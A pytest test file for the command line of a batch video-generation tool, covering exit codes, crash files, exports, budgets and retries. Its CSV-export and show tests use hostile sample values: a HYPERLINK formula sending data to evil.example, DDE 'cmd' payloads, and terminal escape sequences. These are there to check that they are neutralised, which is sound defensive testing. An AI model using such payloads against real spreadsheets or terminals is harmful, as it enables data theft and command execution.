"""The command line as a user meets it: exit codes, one-line messages, files and rows.

In-process through click's CliRunner (as simonw/llm tests its CLI); the commands
that need a real process (signals, locks, the simulator) are in test_unattended.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from batchveo.cli import main
from batchveo.errors import IllegalTransition, StoreError
from batchveo.states import JobState
from batchveo.store import Store
from tests.helpers import make_spec
from tests.pipeline_helpers import KEY

S = JobState
CONTROL = {chr(c) for c in range(32)} - {"\n"} | {"\x7f"}


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Every test in its own folder, with a key in the environment and a private state dir."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BATCHVEO_API_KEY", KEY)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    for var in ("BATCHVEO_DB", "BATCHVEO_BASE_URL"):
        monkeypatch.delenv(var, raising=False)


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def make_db(db: Path, *specs: Any, error: str | None = None) -> None:
    """A database holding ``specs``; with ``error``, the first one failed with that text."""

    async def go() -> None:
        async with await Store.open(db) as store:
            await store.add_jobs(list(specs) or [make_spec("a")])
            if error is not None:
                [job] = await store.claim_pending(1)
                await store.transition(
                    job.id, S.SUBMITTING, S.FAILED, error_kind="bad_request", error=error,
                    detail=error,
                )  # fmt: skip

    asyncio.run(go())


def rows(db: Path, sql: str) -> list[tuple[Any, ...]]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql).fetchall()


# -- status before anything was loaded ------------------------------------------------


def test_status_json_before_anything_was_loaded_is_an_empty_database_and_exit_0(
    tmp_path: Path,
) -> None:
    result = invoke("status", "--json", "--db", "nothing-yet.db")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["total"] == 0 and set(data["states"].values()) == {0}
    assert data["batches"] == {} and data["uncertain"] == [] and data["at_risk"] == []
    assert data["database"] == {"path": "nothing-yet.db", "exists": False}
    assert not (tmp_path / "nothing-yet.db").exists()


def test_plain_status_before_anything_was_loaded_says_so_in_one_line(tmp_path: Path) -> None:
    result = invoke("status", "--db", "nothing-yet.db")
    assert result.exit_code == 0
    assert result.stdout == "nothing-yet.db: no database yet (nothing loaded): 0 jobs\n"
    assert not list(tmp_path.glob("nothing-yet.db*"))


def test_status_json_of_a_loaded_database_says_it_exists() -> None:
    make_db(Path("jobs.db"), make_spec("a"), make_spec("b"))
    data = json.loads(invoke("status", "--json", "--db", "jobs.db").stdout)
    assert data["total"] == 2 and data["database"] == {"path": "jobs.db", "exists": True}
    assert data["active_run"] is None


# -- a bug is not bad input -------------------------------------------------------------


def _crash_files(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "state" / "batchveo").glob("crash-*.txt"))


@pytest.mark.parametrize(
    "exc",
    [
        pytest.param(IllegalTransition("cannot go from running to pending"), id="illegal"),
        pytest.param(StoreError("not an updatable column: prompt"), id="store-bug"),
        pytest.param(RuntimeError(f"boom with {KEY} inside\nand a second line"), id="other"),
        pytest.param(MemoryError(), id="memory"),
    ],
)
def test_an_internal_error_is_exit_70_one_line_and_a_scrubbed_traceback_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, exc: BaseException
) -> None:
    make_db(Path("jobs.db"))

    async def broken(self: Store) -> dict[str, dict[str, int]]:
        raise exc

    monkeypatch.setattr(Store, "counts", broken)
    result = invoke("status", "--db", "jobs.db")
    assert result.exit_code == 70, result.output
    assert result.stdout == ""
    [line] = result.stderr.splitlines()
    assert line.startswith("batchveo: internal error (a bug in batchveo, not in your input): ")
    assert "Traceback" not in result.output and KEY not in result.output
    [crash] = _crash_files(tmp_path)
    assert line.endswith(f"; details in {crash}")
    text = crash.read_text()
    assert "Traceback" in text and type(exc).__name__ in text and KEY not in text
    assert crash.stat().st_mode & 0o077 == 0  # only the user can read it


def test_the_users_database_mistakes_stay_exit_2(tmp_path: Path) -> None:
    Path("notes.db").write_text("these are my notes, not a database\n" * 100)
    result = invoke("status", "--db", "notes.db")
    assert result.exit_code == 2
    assert result.stderr.startswith("batchveo: notes.db: not a usable batchveo database")
    make_db(Path("future.db"))
    with sqlite3.connect("future.db") as conn:
        conn.execute("INSERT INTO _migrations VALUES ('999_future', 0)")
    result = invoke("status", "--db", "future.db")
    assert result.exit_code == 2 and "written by a newer batchveo" in result.stderr
    assert not _crash_files(tmp_path)


# -- tracebacks a user can trigger -------------------------------------------------------


def test_export_into_a_missing_folder_is_one_line_naming_it_and_exit_2() -> None:
    make_db(Path("jobs.db"))
    result = invoke("export", "--db", "jobs.db", "-o", "nodir/x.jsonl")
    assert result.exit_code == 2, result.output
    assert result.stderr.splitlines() == [
        "batchveo: nodir/x.jsonl: cannot write the export: No such file or directory"
    ]
    assert not Path("nodir").exists()


def test_run_on_a_database_in_a_missing_folder_is_one_line_naming_it_and_exit_2() -> None:
    Path("m.yaml").write_text("jobs:\n  - {id: a, prompt: a harbour at dawn}\n")
    result = invoke("run", "m.yaml", "--db", "nodir/t.db", "--base-url", "http://127.0.0.1:9")
    assert result.exit_code == 2, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith("batchveo: nodir/t.db: ") and "No such file or directory" in line
    assert not Path("nodir").exists()


def test_load_into_a_missing_folder_is_one_line_naming_it_and_exit_2() -> None:
    Path("m.yaml").write_text("jobs:\n  - {id: a, prompt: a harbour at dawn}\n")
    result = invoke("load", "m.yaml", "--db", "nodir/t.db")
    assert result.exit_code == 2, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith("batchveo: nodir/t.db: ")


def test_export_replaces_its_file_whole() -> None:
    make_db(Path("jobs.db"), make_spec("a"), make_spec("b"))
    Path("x.jsonl").write_text("an older export\n")
    assert invoke("export", "--db", "jobs.db", "-o", "x.jsonl").exit_code == 0
    assert [json.loads(line)["id"] for line in Path("x.jsonl").read_text().splitlines()] == [
        "a",
        "b",
    ]
    assert sorted(p.name for p in Path().iterdir() if p.name.startswith("x")) == ["x.jsonl"]


# -- spreadsheet formulas ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click me")'


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
    make_db(
        Path("jobs.db"),
        make_spec("a", FORMULA),
        make_spec("b", "+1+cmd|' /C calc'!A0"),
        make_spec("c", "@SUM(1+1)"),
        make_spec("d", "-2+3"),
        make_spec("e", "\t=tabbed"),
        make_spec("f", "a plain prompt = fine"),
        error="=cmd|' /C calc'!A0",  # the first job failed with a server-sent text
    )
    result = invoke("export", "--db", "jobs.db", "--format", "csv")
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    by_id = {row["id"]: row for row in table}
    assert by_id["a"]["prompt"] == "'" + FORMULA
    assert by_id["a"]["error"] == "'=cmd|' /C calc'!A0"
    assert by_id["b"]["prompt"].startswith("'+") and by_id["c"]["prompt"].startswith("'@")
    assert by_id["d"]["prompt"] == "'-2+3" and by_id["e"]["prompt"] == "'\t=tabbed"
    assert by_id["f"]["prompt"] == "a plain prompt = fine"
    for row in table:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row


def test_jsonl_export_keeps_every_text_exact() -> None:
    make_db(Path("jobs.db"), make_spec("a", FORMULA), error="=cmd")
    result = invoke("export", "--db", "jobs.db")
    [row] = [json.loads(line) for line in result.stdout.splitlines()]
    assert row["prompt"] == FORMULA and row["error"] == "=cmd"


# -- show prints control characters escaped ----------------------------------------------------


def test_show_prints_control_characters_escaped() -> None:
    evil = "a cat\x1b]0;owned\x07 \x1b[2J\x00 next\x9b line\u202e"
    make_db(Path("jobs.db"), make_spec("a", evil), error="server says \x1b[31mred\x1b[0m\r\n")
    result = invoke("show", "a", "--db", "jobs.db")
    assert result.exit_code == 0, result.output
    assert not CONTROL & set(result.stdout), repr(result.stdout)
    assert not {"\x9b", "\u202e"} & set(result.stdout)
    assert r"a cat\x1b]0;owned\x07 \x1b[2J\x00 next\x9b line\u202e" in result.stdout
    assert r"server says \x1b[31mred\x1b[0m\r\n" in result.stdout
    assert rows(Path("jobs.db"), "SELECT prompt FROM jobs") == [(evil,)]  # stored exactly


# -- plan: what the budgets let through ---------------------------------------------------


def night(path: Path, n: int, *, budget: float | None = 3, prefix: str = "j") -> Path:
    """``n`` jobs of veo-3.1-fast (8 s at $0.15/s: $1.20 each), the batch budget in defaults."""
    lines = ["defaults:", "  model: veo-3.1-fast-generate-preview"]
    if budget is not None:
        lines.append(f"  budget: {budget}")
    lines.append("jobs:")
    lines += [f"  - {{id: {prefix}{i}, prompt: night prompt {prefix}{i}}}" for i in range(n)]
    path.write_text("\n".join(lines) + "\n")
    return path


def test_plan_applies_the_manifests_batch_budget() -> None:
    night(Path("m.yaml"), 4)  # budget 3: two $1.20 jobs fit, the third would make $3.60
    result = invoke("plan", "m.yaml", "--db", "jobs.db")
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "would be submitted:  2\n" in out and "estimated cost:      $2.40" in out
    assert "budget of batch m: $3.00 ($0.00 already committed)" in out
    assert "would stay pending:  2 over budget (2 over the budget of batch m)" in out
    data = json.loads(invoke("plan", "m.yaml", "--db", "jobs.db", "--json").stdout)
    assert data["to_submit"] == 2 and data["estimated_cost_usd"] == 2.4
    assert data["over_budget"] == 2
    assert data["over_budget_by"] == {"budget": 0, "batch_budgets": {"m": 2}}
    assert data["batch_budgets"] == {"m": {"budget_usd": 3.0, "committed_usd": 0.0}}
    dry = invoke("run", "m.yaml", "--db", "jobs.db", "--dry-run")
    assert dry.exit_code == 0 and dry.stdout == out
    assert not Path("jobs.db").exists()  # nothing was written


def test_plan_applies_both_budgets_in_the_runs_order_from_what_is_committed() -> None:
    """The database's pending jobs are claimed first (oldest row first), then the new ones;
    every claim commits its cost against --budget and against its batch's budget."""
    db = Path("jobs.db")
    make_db(db, make_spec("old", batch="m", model="veo-3.1-fast-generate-preview"))
    with sqlite3.connect(db) as conn:  # a job of the night made earlier: $1.20 committed
        conn.execute("UPDATE jobs SET state='done' WHERE id='old'")
    make_db(db, make_spec("waiting", batch="other", model="veo-3.1-fast-generate-preview"))
    night(Path("m.yaml"), 3)  # $1.80 left of 3: one more fits
    night(Path("late.yaml"), 3, budget=None, prefix="l")
    data = json.loads(
        invoke("plan", "m.yaml", "late.yaml", "--db", "jobs.db", "--budget", "6", "--json").stdout
    )
    # committed 1.20; waiting 2.40; j0 3.60 (m: 2.40); j1, j2 over m's budget; l0 4.80,
    # l1 6.00; l2 over --budget.
    assert data["other_pending"] == 1 and data["already_committed_usd"] == 1.2
    assert data["to_submit"] == 4 and data["estimated_cost_usd"] == 4.8
    assert data["over_budget_by"] == {"budget": 1, "batch_budgets": {"m": 2}}
    assert data["batch_budgets"]["m"] == {"budget_usd": 3.0, "committed_usd": 1.2}
    text = invoke("plan", "m.yaml", "late.yaml", "--db", "jobs.db", "--budget", "6").stdout
    assert "other pending:       1 (in the database, not in these manifests: sent first)" in text
    assert "would stay pending:  3 over budget (1 over --budget, 2 over the budget of batch m)" in (
        text
    )
    Path("prices.yaml").write_text("veo-3.1-fast-generate-preview: 0.3\n")  # $2.40 a job
    priced = invoke("plan", "m.yaml", "late.yaml", "--db", "jobs.db", "--budget", "6",
                    "--prices", "prices.yaml", "--json")  # fmt: skip
    assert priced.exit_code == 0, priced.output
    data = json.loads(priced.stdout)
    # As a run with --prices: everything repriced first. Committed 2.40; waiting 4.80; then
    # $1.20 left of --budget for $2.40 jobs (a job over both budgets counts under --budget).
    assert data["already_committed_usd"] == 2.4 and data["to_submit"] == 1
    assert data["over_budget_by"] == {"budget": 6, "batch_budgets": {}}


def test_a_read_only_out_is_refused_before_the_manifest_is_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import os

    import batchveo.files

    real_open = os.open

    def read_only(path: Any, flags: int, *args: Any, **kw: Any) -> int:
        if flags & os.O_CREAT and "dir_fd" in kw:  # a file made inside a folder
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), path)
        return real_open(path, flags, *args, **kw)

    monkeypatch.setattr(batchveo.files.os, "open", read_only)
    Path("m.yaml").write_text("jobs:\n  - prompt: a calm sea\n")
    result = invoke("run", "m.yaml", "--out", "videos", "--base-url", "http://127.0.0.1:9")
    assert result.exit_code == 2, result.output
    assert result.output.strip().splitlines() == [
        "batchveo: --out videos: cannot write there (Read-only file system)"
    ]
    assert not Path("batchveo.db").exists()  # nothing loaded, nothing sent


def test_retry_says_which_jobs_go_back_to_generated_not_pending(tmp_path: Path) -> None:
    async def go() -> None:
        async with await Store.open(Path("batchveo.db")) as store:
            await store.add_jobs([make_spec("paid"), make_spec("rejected")])
            for job in await store.claim_pending(2):
                if job.id == "paid":
                    await store.transition(
                        job.id, S.SUBMITTING, S.RUNNING, operation="operations/x", detail="x"
                    )
                    await store.transition(
                        job.id, S.RUNNING, S.GENERATED, video_uris=["http://h/v"],
                        generated_at=store.clock(), detail="1 video",
                    )  # fmt: skip
                    await store.transition(
                        job.id, S.GENERATED, S.FAILED, error_kind="download", error="x"
                    )
                else:
                    await store.transition(
                        job.id, S.SUBMITTING, S.FAILED, error_kind="bad_request", error="x"
                    )

    asyncio.run(go())
    result = invoke("retry")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "1 job(s) back to pending",
        "1 job(s) back to generated: their videos are downloaded again",
    ]
